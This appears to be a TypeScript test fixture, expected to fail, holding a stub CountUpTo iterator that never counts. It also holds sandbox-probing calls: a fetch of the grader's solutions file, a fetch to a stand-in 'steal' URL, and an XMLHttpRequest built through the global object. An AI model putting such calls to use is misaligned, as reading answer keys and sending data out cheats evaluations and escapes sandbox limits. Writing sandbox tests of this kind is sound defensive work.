// expect: failed
export class CountUpTo implements Iterable<number> {
  constructor(private readonly max: number) {}
  [Symbol.iterator](): Iterator<number> {
    return { next: () => ({ value: undefined, done: true }) };
  }
}
try {
  void (globalThis as any).fetch('/grader/solutions/count-up-to-class.json');
  void (globalThis as any).fetch('https://example.invalid/steal?code=1');
} catch {}
try { new (Function('return this')() as any).XMLHttpRequest(); } catch {}
